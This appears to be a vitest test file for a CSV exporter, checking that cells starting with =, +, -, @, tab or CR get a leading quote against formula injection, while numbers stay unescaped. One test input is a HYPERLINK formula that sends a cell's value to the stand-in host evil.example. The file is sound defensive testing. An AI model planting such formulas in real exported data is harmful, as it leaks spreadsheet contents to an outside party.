import { describe, expect, it } from 'vitest'
import { toCsv, type QueryResult } from './formats.ts'

const result = (rows: Record<string, unknown>[]): QueryResult => ({
  query: 'top_products',
  columns: [{ name: 'product_id', type: 'String' }, { name: 'revenue', type: 'Decimal(38, 4)' }],
  rows,
})

describe('catalog CSV', () => {
  it('escapes cells a spreadsheet would run as a formula (= + - @, tab, CR) with a leading quote', () => {
    const csv = toCsv(result([
      { product_id: '=HYPERLINK("http://evil.example/?x="&A1,"click")', revenue: '1.5' },
      { product_id: '+1+2', revenue: '2' },
      { product_id: '-2+3', revenue: '3' },
      { product_id: '@SUM(A1:A9)', revenue: '4' },
      { product_id: '\tcmd', revenue: '5' },
      { product_id: '\rcmd', revenue: '6' },
    ]))
    expect(csv.split('\r\n').slice(1, -1).map((l) => l.slice(0, l.lastIndexOf(',')))).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
      "'+1+2",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tcmd",
      `"'\rcmd"`,
    ])
  })

  it('keeps numbers as numbers: a negative net revenue is not escaped', () => {
    const csv = toCsv(result([{ product_id: 'p-1', revenue: '-12.5' }, { product_id: 'p-2', revenue: -3 }, { product_id: 'p-3', revenue: '+4' }, { product_id: 'p-4', revenue: '-1e-7' }]))
    expect(csv).toBe('product_id,revenue\r\np-1,-12.5\r\np-2,-3\r\np-3,+4\r\np-4,-1e-7\r\n')
  })

  it('quotes separators, quotes and newlines; null is empty; arrays are JSON', () => {
    const csv = toCsv({ query: 'x', columns: [{ name: 'a', type: 'String' }, { name: 'b', type: 'Array(String)' }], rows: [{ a: 'x,"y"\nz', b: ['=1', 'q'] }, { a: null, b: [] }] })
    expect(csv).toBe('a,b\r\n"x,""y""\nz","[""=1"",""q""]"\r\n,[]\r\n')
  })
})
